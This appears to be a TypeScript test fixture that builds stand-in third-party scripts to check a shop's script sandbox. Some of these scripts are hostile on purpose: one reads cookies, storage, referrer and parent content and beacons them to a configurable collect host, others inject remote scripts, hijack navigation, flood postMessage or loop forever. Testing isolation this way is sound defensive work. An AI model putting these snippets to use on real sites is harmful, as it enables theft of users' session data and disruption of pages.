/** Code that the stand-in answers as the script of a service. Each is run in the document of that service. */

/** Sends every message of the shop to `collect`, as services do. */
const service = (collect: string) => `
const send = (message) => new Image().src = '${collect}/collect?' + new URLSearchParams({ host: location.pathname, message: JSON.stringify(message) });
for (const message of dataLayer) send(message);
dataLayer.push = (message) => send(message);`;

/** Tries everything that a document of the shop would give away, and sends what it got. */
const reads = (collect: string) => `
const attempt = (name, run) => { try { return [name, String(run())]; } catch (error) { return [name, 'blocked ' + error.name]; } };
const got = [
  attempt('parent', () => parent.document.body.innerText),
  attempt('top', () => top.location.href),
  attempt('referrer', () => document.referrer),
  attempt('cookie', () => document.cookie),
  attempt('localStorage', () => localStorage.length),
  attempt('sessionStorage', () => sessionStorage.length),
  attempt('indexedDB', () => indexedDB.open('x').name),
  attempt('form', () => { const form = document.createElement('form'); form.action = '${collect}/form'; document.body.append(form); form.submit(); return 'submitted'; }),
  attempt('navigate', () => { top.location = '${collect}/navigated'; return 'navigated'; }),
  attempt('window', () => open('${collect}/opened') === null ? 'blocked' : 'opened'),
];
fetch('/api/session-data?store_id=9').then(() => 'answered', (error) => 'blocked ' + error.name).then((session) => {
  new Image().src = '${collect}/got?' + new URLSearchParams([...got, ['session', session]]);
});
parent.postMessage({ type: 'session:changed', payload: { session: { id: 1 } } }, '*');`;

const writes = (collect: string) => `
document.write('<h1>Written</h1><script src="${collect}/written.js"></' + 'script>');
document.body.insertAdjacentHTML('beforeend', '<img src="https://elsewhere.example/pixel.gif">');
new Image().src = '${collect}/wrote';`;

const floods = `for (let index = 0; index < 20000; index += 1) parent.postMessage({ type: 'ready', index, filler: 'x'.repeat(100) }, '*');`;

export type StandInScript = 'service' | 'reads' | 'writes' | 'floods' | 'throws' | 'loops';

export function standInScript(name: StandInScript, collect: string): string {
  switch (name) {
    case 'service':
      return service(collect);
    case 'reads':
      return reads(collect);
    case 'writes':
      return writes(collect);
    case 'floods':
      return floods;
    case 'throws':
      return `throw new Error('The service failed');`;
    case 'loops':
      return 'for (;;) {}';
  }
}
